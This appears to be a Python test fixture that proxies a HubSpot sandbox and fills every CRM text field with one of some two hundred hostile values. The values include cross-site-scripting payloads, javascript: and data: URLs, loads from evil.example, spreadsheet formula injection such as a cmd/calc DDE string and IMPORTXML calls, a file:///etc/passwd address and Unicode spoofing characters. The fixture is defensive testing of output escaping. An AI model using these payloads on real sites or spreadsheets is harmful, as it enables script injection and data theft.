"""Two hundred values that attack whatever shows them, and a HubSpot in which every text is one of them.

`canary` is a function of the page that a test watches; every value that could run a script would call it.
"""

import contextlib
import itertools
import json
import threading
from http.server import BaseHTTPRequestHandler, ThreadingHTTPServer

import httpx

EVIL = "evil.example"
HTML = [
    "<script>canary({n})</script>",
    "<ScRiPt>canary({n})</sCrIpT >",
    "<script src=https://evil.example/{n}.js></script>",
    "<img src=x onerror=canary({n})>",
    '"><img src=https://evil.example/{n}.png onerror="canary({n})">',
    "<svg onload=canary({n})>",
    '<svg><animate onbegin="canary({n})" attributeName=x dur=1s>',
    "<iframe srcdoc='<script>parent.canary({n})</script>'></iframe>",
    "<iframe src=javascript:canary({n})>",
    "<object data=https://evil.example/{n}></object>",
    "<a href=javascript:canary({n})>click</a>",
    "<a href='https://evil.example/{n}'>click</a>",
    "<form action=https://evil.example><button autofocus onfocus=canary({n})>go</button></form>",
    "<details open ontoggle=canary({n})><summary>x</summary></details>",
    "<style>@import url(https://evil.example/{n}.css);*{{display:none}}</style>",
    "<link rel=stylesheet href=https://evil.example/{n}.css>",
    "<meta http-equiv=refresh content='0;url=https://evil.example/{n}'>",
    "<base href=https://evil.example/>",
    "<body onload=canary({n})>",
    "<math><mtext></form><form><mglyph><style></math><img src onerror=canary({n})>",
    "</script><script>canary({n})</script>",
    "--><img src=x onerror=canary({n})>",
    "<![CDATA[<img src=x onerror=canary({n})>]]>",
    "&lt;img src=x onerror=canary({n})&gt;",
    "&#60;script&#62;canary({n})&#60;/script&#62;",
    "\\u003cscript\\u003ecanary({n})\\u003c/script\\u003e",
    "';canary({n});//",
    '";canary({n});//',
    "${{canary({n})}} {{{{constructor.constructor('canary({n})')()}}}}",
    "%{{customdata[0]}} %{{x}} %{{fullData.name}} {n}",
]
ADDRESSES = [
    "javascript:canary({n})",
    "JaVaScRiPt:canary({n})",
    "java\tscript:canary({n})",
    "data:text/html,<script>parent.canary({n})</script>",
    "data:image/svg+xml;base64,PHN2ZyBvbmxvYWQ9ImNhbmFyeSgxKSI+",
    "vbscript:canary({n})",
    "https://evil.example/{n}",
    "//evil.example/{n}",
    "www.evil.example/{n}",
    "person{n}@evil.example",
    "file:///etc/passwd?{n}",
    "https://app.hubspot.com@evil.example/{n}",
]
MARKDOWN = [
    "[click](javascript:canary({n}))",
    "[click](https://evil.example/{n})",
    "![picture](https://evil.example/{n}.png)",
    "[![x](https://evil.example/{n}.png)](javascript:canary({n}))",
    "<https://evil.example/{n}>",
    "[ref]: https://evil.example/{n}",
    "**bold** *italic* ~~gone~~ `code {n}`",
    "# Heading {n}",
    "- item {n}\n- item",
    "| a | b |\n|---|---|\n| {n} | c |",
    "```\ncode {n}\n```",
    "$\\href{{javascript:canary({n})}}{{x}}$ $$\\includegraphics{{https://evil.example/{n}.png}}$$",
    ":material/delete: :rocket: :streamlit: {n}",
    ":red[red {n}] :blue-background[blue] :small[small] :badge[x] :shortcut[Ctrl+K]",
    ":material/check_circle: -> <- -- ... {n}",
    "<!-- {n} -->[x](#anchor)",
]
PLOTLY = [
    "<a href='javascript:canary({n})'>x</a>",
    '<a href="https://evil.example/{n}" target="_blank">x</a>',
    "<b>b</b><i>i</i><br><sup>{n}</sup><em>e</em>",
    "<span style='background:url(https://evil.example/{n}.png)'>x</span>",
    "<extra>{n}</extra>",
    "#000001 #2F5BD0 {n}",
    "$x^2$ {n}",
]
LETTERS = [
    "\u202egnp.exe{n}",
    "\u2066isolate\u2069 {n}",
    "\u200bzero\u200dwidth{n}\ufeff",
    "nul\x00l{n}",
    "\x07bell\x1b[31mred{n}",
    "line\none{n}\r\ntwo\ttab",
    "\u2028separator{n}\u2029",
    "\u0301combining{n}" + "\u0301" * 40,
    "محمد {n} منصور",
    "👩🏽‍💻 Team {n}",
    "Ünïcödé " * 40 + "{n}",
    "<" * 300 + "{n}",
    "W" * 400 + "{n}",
    "HubSpot",
    "Name",
    "No value {n}",
    "null",
    " ",
]
FORMULAS = [
    "=1+{n}",
    "=cmd|' /C calc'!A{n}",
    '=HYPERLINK("https://evil.example/{n}","click")',
    '=IMPORTXML("https://evil.example/{n}","//a")',
    "+{n}+1",
    "-{n}+1",
    "@SUM(A1:A{n})",
    "\t={n}+1",
    "\r={n}+1",
    "\n={n}+1",
    " ={n}+1",
    "\uff1d{n}+1",
    "\uff0b{n}+1",
    "\uff0d{n}+1",
    "\uff20SUM({n})",
    "\x00={n}+1",
    "x;={n}+1",
    '",={n}+1,"',
    '"\n={n}+1',
    "+49 30 901820 {n}",
]
_TEMPLATES = (*HTML, *ADDRESSES, *MARKDOWN, *PLOTLY, *LETTERS, *FORMULAS)
COUNT = 200
VALUES = [each.format(n=n) for n, each in zip(range(COUNT), itertools.cycle(_TEMPLATES), strict=False)]
WORST = f"{HTML[3]} {MARKDOWN[0]} {MARKDOWN[2]} {MARKDOWN[13]} $x^2$ *bold* #000001 \u202ex".format(n=COUNT)

TEXTS = {
    "contacts": ("firstname", "lastname", "email", "phone", "jobtitle", "company", "city", "state", "country"),
    "companies": ("name", "domain", "website", "phone", "city", "state", "country"),
}
# Every so many records hold a value that is no option.
CHOICES = {"hs_analytics_source": 3, "hs_lead_status": 3, "industry": 3, "type": 3, "lifecyclestage": 40}


class Portal:
    """Rewrites what a sandbox answers, so that every text of the portal is hostile. Safe to use from many threads."""

    def __init__(self, values=VALUES):
        self.values = values
        self._lock, self._numbers = threading.Lock(), {}

    def number(self, key):
        """Return a number for a thing, the same one each time, ascending by first mention."""
        with self._lock:
            return self._numbers.setdefault(key, sum(1 for kind, _ in self._numbers if kind == key[0]))

    def value(self, kind, name):
        return self.values[self.number((kind, name)) % len(self.values)]

    def rewritten(self, path, body):
        """Return an answer with its texts replaced."""
        if "/account-info/" in path:
            return body | {"portalName": WORST, "companyCurrency": WORST, "accountType": WORST, "uiDomain": EVIL}
        if path.endswith("/introspect"):
            return body | {"user": WORST, "hub_domain": WORST} if body.get("active") else body
        results = body.get("results")
        if not isinstance(results, list):
            return body
        if "/crm/properties/" in path:
            rewrite = self._group if path.endswith("/groups") else self._property
            return body | {"results": [rewrite(each) for each in results]}
        if "/crm/owners/" in path:
            return body | {"results": [self._owner(each) for each in results]}
        kind = next((kind for kind in TEXTS if "/crm/objects/" in path and f"/{kind}" in path), None)
        return body | {"results": [self._record(kind, each) for each in results]} if kind else body

    def _group(self, group):
        return group | {"label": self.value("group", group["name"])}

    def _property(self, definition):
        options = [each | {"label": self.value("option", each["value"])} for each in definition["options"]]
        label = self.value("property", definition["name"])
        return definition | {"label": label, "description": label, "options": options}

    def _owner(self, owner):
        return owner | {"firstName": self.value("owner", owner["id"]), "lastName": WORST, "email": WORST}

    def _record(self, kind, record):
        number = self.number((kind, record["id"]))
        value = self.values[number % len(self.values)]
        given = record["properties"]
        texts = {name: value for name in TEXTS[kind] if name in given}
        # The whole name is the one value.
        texts |= {"lastname": ""} if "lastname" in given else {}
        choices = {name: value for name, each in CHOICES.items() if name in given and number % each == 0}
        return record | {"properties": given | texts | choices}


@contextlib.contextmanager
def rewriting(sandbox_url, portal):
    """Serve a sandbox's API with every answer rewritten by the portal; yields the address."""
    with httpx.Client(base_url=sandbox_url, trust_env=False, timeout=30) as http:
        server = ThreadingHTTPServer(("127.0.0.1", 0), _handler(http, portal))
        server.daemon_threads = True
        thread = threading.Thread(target=server.serve_forever, daemon=True)
        thread.start()
        try:
            yield f"http://127.0.0.1:{server.server_port}"
        finally:
            server.shutdown()
            server.server_close()
            thread.join()


def _handler(http, portal):
    class Handler(BaseHTTPRequestHandler):
        protocol_version = "HTTP/1.1"

        def log_message(self, *_):
            """Stay silent."""

        def answer(self):
            sent = self.rfile.read(int(self.headers.get("content-length", 0)))
            headers = {name: text for name, text in self.headers.items() if name.lower() not in {"host", "connection"}}
            headers["accept-encoding"] = "identity"
            answer = http.request(self.command, self.path, content=sent, headers=headers)
            content = answer.content
            if answer.is_success and "json" in answer.headers.get("content-type", ""):
                # A fault of the sandbox may have cut it off.
                with contextlib.suppress(json.JSONDecodeError):
                    content = json.dumps(portal.rewritten(self.path.partition("?")[0], json.loads(content))).encode()
            self.send_response(answer.status_code)
            for name, text in answer.headers.items():
                if name.lower().startswith(("content-type", "x-hubspot")):
                    self.send_header(name, text)
            self.send_header("content-length", str(len(content)))
            self.end_headers()
            self.wfile.write(content)

        do_GET = do_POST = do_PUT = do_DELETE = answer  # noqa: N815 (the names that http.server calls)

    return Handler
